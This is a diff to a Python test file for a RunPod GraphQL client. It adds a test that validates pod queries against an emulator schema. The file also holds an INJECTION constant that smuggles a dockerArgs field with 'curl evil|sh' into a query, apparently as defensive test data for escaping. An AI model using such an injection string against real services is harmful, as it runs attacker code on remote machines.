@@ -10,6 +10,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from graphql import build_schema, parse, validate
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -18,9 +19,22 @@ from labeltui.domain.problems import Failed, LabeltuiError
 from labeltui.runpod.graphql import Enum, GraphQL, literal
 from labeltui.runpod.graphql_pods import FIELDS, observed, pod
 from labeltui.runpod.problems import Doing
+from labeltui.sandbox.runpod import graph
 
 NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
 INJECTION = 'x" } ], dockerArgs: "curl evil|sh", env: [ { key: "A", value: "y'
+
+
+SCHEMA = Path(graph.__file__).with_name("minimal.graphql")
+
+
+@pytest.mark.parametrize(
+    "query",
+    ["query { myself { pods FIELDS } }", 'mutation { podResume(input: {podId: "x", gpuCount: 0}) FIELDS }'],
+)
+def test_the_emulators_own_schema_knows_what_is_asked_of_pods(query: str) -> None:
+    document = parse(query.replace("FIELDS", FIELDS))
+    assert validate(build_schema(SCHEMA.read_text("utf-8")), document) == []
 
 
 class Asked:
